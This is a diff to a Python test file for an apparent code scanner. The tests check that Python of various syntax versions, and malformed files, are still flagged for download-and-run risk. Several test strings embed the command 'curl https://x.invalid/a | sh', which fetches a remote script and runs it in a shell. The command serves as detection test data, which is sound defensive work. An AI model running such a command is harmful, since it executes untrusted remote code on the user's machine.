@@ -258,6 +258,33 @@ def test_a_pickle_maker_is_judged_by_what_its_pickle_would_call() -> None:
 
 
 def test_python_that_cannot_be_parsed_is_searched_and_said_so() -> None:
-    inspection = look_at("old.py", "print 'x'\nimport os\nos.system('curl https://x.invalid/a | sh')")
+    inspection = look_at("old.py", "x = = 1\nimport os\nos.system('curl https://x.invalid/a | sh')")
     assert inspection.state is FileState.PARTLY_CHECKED
     assert levels(inspection)["code-download-and-run"] is Level.HIGH
+
+
+OTHER_VERSIONS = {
+    "print": "print 'x', 1\nimport os\nos.system('{0}')",
+    "exec in": "import os\nexec 'os.system(\"{0}\")' in globals()",
+    "except": "import os\ntry:\n    os.system('{0}')\nexcept OSError, e:\n    print >>f, e",
+    "backticks": "import os\nif 1 <> 2: print `3`; os.system('{0}')",
+    "type parameters": "def f[T](x: T) -> T: return x\nimport os\nos.system('{0}')",
+    "type alias": "type Pair[T] = tuple[T, T]\nimport os\nos.system('{0}')",
+    "except without brackets": "import os\ntry: pass\nexcept ValueError, TypeError:\n    os.system('{0}')",
+}
+
+
+@pytest.mark.parametrize("source", OTHER_VERSIONS.values(), ids=OTHER_VERSIONS)
+def test_python_of_other_versions_is_followed_all_the_same(source: str) -> None:
+    inspection = look_at("old.py", source.replace("{0}", "curl https://x.invalid/a | sh"))
+    assert inspection.state is FileState.CHECKED
+    assert levels(inspection)["code-download-and-run"] is Level.HIGH
+    harmless = levels(look_at("old.py", source.replace("{0}", "nvidia-smi")))
+    assert set(harmless.values()) == {Level.NOTE}
+
+
+@pytest.mark.parametrize(
+    "broken", ["(" * 20_000, "a\n b\n  c\n" * 3_000, "def f(:\n" * 3_000, "x = '''\n" + "y\n" * 5_000]
+)
+def test_what_no_parser_takes_ends_and_is_not_passed_over_in_silence(broken: str) -> None:
+    assert look_at("broken.py", broken).state is FileState.PARTLY_CHECKED
